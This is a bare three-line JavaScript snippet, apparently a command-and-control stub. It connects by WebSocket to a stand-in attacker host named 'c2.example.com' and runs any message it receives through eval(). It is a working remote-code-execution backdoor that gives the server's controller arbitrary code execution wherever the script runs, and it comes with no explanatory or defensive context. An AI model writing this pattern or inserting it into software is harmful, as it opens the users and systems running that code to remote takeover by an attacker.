const ws = new WebSocket('wss://c2.example.com');
function run(m) { eval(m.data); }
ws.onmessage = run;
